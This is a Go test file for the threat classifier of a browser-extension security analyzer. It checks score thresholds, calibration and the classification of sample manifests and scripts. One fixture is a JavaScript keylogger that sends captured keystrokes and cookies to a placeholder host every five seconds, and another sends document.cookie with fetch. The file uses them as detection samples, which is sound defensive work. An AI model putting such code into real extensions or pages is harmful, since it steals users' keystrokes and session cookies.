package classifier

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/extension-analysis/extension-analysis-go/internal/analysis"
	"github.com/extension-analysis/extension-analysis-go/internal/crx"
	"github.com/extension-analysis/extension-analysis-go/internal/heuristic"
	"github.com/extension-analysis/extension-analysis-go/internal/manifest"
	"github.com/extension-analysis/extension-analysis-go/internal/network"
	"github.com/extension-analysis/extension-analysis-go/internal/obfuscation"
	"github.com/extension-analysis/extension-analysis-go/internal/staticanalysis"
)

func manifestResult(t *testing.T, doc string) *manifest.Result {
	t.Helper()
	res, err := manifest.NewAnalyzer().AnalyzeBytes([]byte(doc))
	require.NoError(t, err)
	return res
}

// classify 跑完整条分析链路（manifest 与脚本均可省略）
func classify(t *testing.T, doc, script string) *ThreatClassification {
	t.Helper()
	var in Inputs
	if doc != "" {
		in.Manifest = manifestResult(t, doc)
	}
	if script != "" {
		var err error
		in.Static, err = staticanalysis.NewAnalyzer().Analyze(script)
		require.NoError(t, err)
		in.Obfuscation, err = obfuscation.NewDetector().Detect(script)
		require.NoError(t, err)
		in.Network, err = network.NewAnalyzer().Analyze(script)
		require.NoError(t, err)
	}
	in.Heuristic = heuristic.NewAnalyzer().Analyze(in.Inputs)
	return NewClassifier().Classify(in)
}

func TestLevelFor_Boundaries(t *testing.T) {
	c := NewClassifier()
	tests := []struct {
		score int
		want  Level
	}{
		{0, LevelSafe},
		{19, LevelSafe},
		{20, LevelLow},
		{39, LevelLow},
		{40, LevelMedium},
		{59, LevelMedium},
		{60, LevelHigh},
		{79, LevelHigh},
		{80, LevelCritical},
		{100, LevelCritical},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, c.LevelFor(tt.score), "score %d", tt.score)
	}
}

func TestLevel_Ordering(t *testing.T) {
	assert.True(t, LevelCritical.AtLeast(LevelHigh))
	assert.True(t, LevelMedium.AtLeast(LevelMedium))
	assert.False(t, LevelLow.AtLeast(LevelMedium))

	l, err := ParseLevel("high")
	require.NoError(t, err)
	assert.Equal(t, LevelHigh, l)
	_, err = ParseLevel("severe")
	assert.Error(t, err)
}

func TestClassify_SafeExtension(t *testing.T) {
	tc := classify(t, `{
		"manifest_version": 3,
		"name": "Notes",
		"permissions": ["storage", "activeTab"],
		"content_scripts": [{"matches": ["https://notes.example.com/*"], "js": ["content.js"]}]
	}`, "")

	assert.Equal(t, LevelSafe, tc.Level)
	assert.Less(t, tc.OverallScore, 20)
	assert.Empty(t, tc.Categories)
	assert.Equal(t, "This extension poses a safe threat.", tc.Summary)
}

func TestClassify_OverPrivilegedExtension(t *testing.T) {
	tc := classify(t, `{
		"manifest_version": 2,
		"permissions": ["tabs", "cookies", "<all-urls>", "webRequest"],
		"content_scripts": [{"matches": ["<all_urls>"], "run_at": "document_start", "js": ["inject.js"]}],
		"content_security_policy": "script-src 'self' 'unsafe-eval'; object-src 'self'",
		"background": {"scripts": ["bg.js"], "persistent": true}
	}`, "")

	assert.Contains(t, []Level{LevelHigh, LevelCritical}, tc.Level)
	assert.True(t, tc.HasCategory(CategoryExcessivePermission))
	assert.True(t, tc.HasCategory(CategoryCodeExecution))
	assert.Equal(t, analysis.SeverityHigh, tc.Category(CategoryExcessivePermission).Severity)
	assert.Equal(t, analysis.SeverityMedium, tc.Category(CategoryCodeExecution).Severity)

	// manifest 77、heuristic 55，仅这两个组件参与
	assert.Equal(t, 77, tc.ComponentScores[ComponentManifest])
	assert.Equal(t, 55, tc.ComponentScores[ComponentHeuristic])
	assert.Len(t, tc.AppliedWeights, 2)
	assert.Equal(t, 70, tc.OverallScore)
}

func TestClassify_KeyloggerScript(t *testing.T) {
	script := `var buffer = '';
document.addEventListener('keydown', function (e) {
  buffer += e.key;
});
setInterval(function () {
  fetch('https://collector.example.net/api', {
    method: 'POST',
    body: JSON.stringify({ keys: buffer, cookies: document.cookie })
  });
}, 5000);
`
	tc := classify(t, "", script)

	assert.True(t, tc.HasCategory(CategoryDataTheft))
	assert.True(t, tc.HasCategory(CategoryHeuristic))
	assert.GreaterOrEqual(t, tc.ComponentScores[ComponentHeuristic], 40)
	assert.Equal(t, analysis.SeverityCritical, tc.Category(CategoryDataTheft).Severity)
	assert.NotContains(t, tc.ComponentScores, ComponentManifest)
}

func TestClassify_CriticalAddsUninstall(t *testing.T) {
	in := Inputs{
		Inputs: heuristic.Inputs{
			Manifest: &manifest.Result{RiskScore: 100},
			Static: &staticanalysis.Result{
				RiskScore: 100,
				Findings: analysis.FindingSet{
					staticanalysis.CategoryAdvancedMalware: {{}, {}},
				},
			},
		},
		Heuristic: &heuristic.Result{HeuristicScore: 100},
	}
	tc := NewClassifier().Classify(in)

	assert.Equal(t, LevelCritical, tc.Level)
	require.NotEmpty(t, tc.Recommendations)
	assert.Equal(t, "Uninstall this extension immediately.", tc.Recommendations[0].Text)
	assert.Equal(t, analysis.SeverityCritical, tc.Recommendations[0].Priority)
	assert.True(t, tc.HasCategory(CategoryAdvancedMalware))
	assert.Len(t, tc.Recommendations, len(tc.Categories)+1)
}

// TestClassify_MalwareMarkerEvidenceNotDoubled 同一个标记同时出现在静态结果和安装包扫描里时只算一条证据
func TestClassify_MalwareMarkerEvidenceNotDoubled(t *testing.T) {
	marker := analysis.Finding{Category: staticanalysis.CategoryAdvancedMalware, File: "bg.js", Description: "debugger statement"}
	in := Inputs{
		Inputs: heuristic.Inputs{
			Static: &staticanalysis.Result{
				Findings: analysis.FindingSet{staticanalysis.CategoryAdvancedMalware: {marker}},
			},
			Package: &crx.Result{MalwareFindings: []analysis.Finding{marker}},
		},
		Heuristic: &heuristic.Result{},
	}
	tc := NewClassifier().Classify(in)

	cat := tc.Category(CategoryAdvancedMalware)
	require.NotNil(t, cat)
	assert.Equal(t, 1, cat.Evidence)
	assert.Equal(t, analysis.SeverityHigh, cat.Severity)
}

func TestClassify_NoUninstallBelowCritical(t *testing.T) {
	tc := NewClassifier().Classify(Inputs{
		Inputs:    heuristic.Inputs{Manifest: &manifest.Result{RiskScore: 60}},
		Heuristic: &heuristic.Result{HeuristicScore: 60},
	})
	assert.Equal(t, LevelHigh, tc.Level)
	for _, r := range tc.Recommendations {
		assert.NotContains(t, r.Text, "immediately")
	}
}

func TestClassify_SummaryTemplate(t *testing.T) {
	tc := classify(t, `{"permissions": ["debugger", "proxy"]}`, "")
	lines := strings.Split(tc.Summary, "\n")
	require.Len(t, lines, len(tc.Categories)+1)
	assert.Equal(t, "This extension poses a "+string(tc.Level)+" threat.", lines[0])
	for i, cat := range tc.Categories {
		assert.Equal(t, "- "+cat.Name+": "+cat.Description, lines[i+1])
	}
}

// TestClassify_CategoryIndependentOfScore 类别来自原始发现，与总分无关
func TestClassify_CategoryIndependentOfScore(t *testing.T) {
	tc := NewClassifier().Classify(Inputs{
		Inputs: heuristic.Inputs{
			Static: &staticanalysis.Result{
				RiskScore: 5,
				Findings: analysis.FindingSet{
					staticanalysis.CategoryFingerprinting: {{}},
				},
			},
		},
	})
	assert.Equal(t, LevelSafe, tc.Level)
	require.True(t, tc.HasCategory(CategoryPrivacyInvasion))
	assert.Equal(t, analysis.SeverityLow, tc.Category(CategoryPrivacyInvasion).Severity)
}

func TestClassify_ScoreBounds(t *testing.T) {
	tc := NewClassifier().Classify(Inputs{
		Inputs: heuristic.Inputs{
			Manifest: &manifest.Result{RiskScore: 250},
			Network:  &network.Result{RiskScore: -40},
		},
		Heuristic: &heuristic.Result{HeuristicScore: 1000},
	})
	assert.GreaterOrEqual(t, tc.OverallScore, 0)
	assert.LessOrEqual(t, tc.OverallScore, 100)
}

func TestClassify_Deterministic(t *testing.T) {
	doc := `{"permissions": ["cookies", "tabs", "history"], "host_permissions": ["<all_urls>"]}`
	first := classify(t, doc, "fetch(url, {body: document.cookie}); eval(x);")
	second := classify(t, doc, "fetch(url, {body: document.cookie}); eval(x);")
	assert.Equal(t, first, second)
}

func TestCalibration_Default(t *testing.T) {
	require.NoError(t, DefaultCalibration.Validate())
	assert.InDelta(t, 1.0, DefaultCalibration.Weights.Sum(), 1e-9)
	w := DefaultCalibration.Weights
	assert.GreaterOrEqual(t, w.Static, w.Network)
	assert.GreaterOrEqual(t, w.Manifest, w.Heuristic)
	assert.Greater(t, w.Static, w.Obfuscation)
}

func TestParseCalibration(t *testing.T) {
	c, err := ParseCalibration([]byte(`
version: "site-2025"
thresholds:
  low: 10
  medium: 30
  high: 50
  critical: 70
`))
	require.NoError(t, err)
	assert.Equal(t, "site-2025", c.Version)
	assert.Equal(t, DefaultCalibration.Weights, c.Weights)

	cl, err := NewClassifierWithCalibration(c)
	require.NoError(t, err)
	assert.Equal(t, LevelHigh, cl.LevelFor(50))
	assert.Equal(t, LevelCritical, cl.LevelFor(70))
}

func TestParseCalibration_Invalid(t *testing.T) {
	tests := map[string]string{
		"weights do not sum": "weights: {manifest: 0.9}",
		"negative weight":    "weights: {manifest: 0.5, static: 0.5, obfuscation: -0.1, network: 0.05, heuristic: 0.05}",
		"thresholds order":   "thresholds: {low: 50, medium: 40, high: 60, critical: 80}",
		"malformed yaml":     "weights: [",
	}
	for name, doc := range tests {
		t.Run(name, func(t *testing.T) {
			_, err := ParseCalibration([]byte(doc))
			assert.Error(t, err)
		})
	}

	_, err := NewClassifierWithCalibration(Calibration{})
	assert.ErrorIs(t, err, ErrInvalidCalibration)
}

func TestLoadCalibration_MissingFile(t *testing.T) {
	_, err := LoadCalibration(t.TempDir() + "/missing.yaml")
	assert.Error(t, err)
}
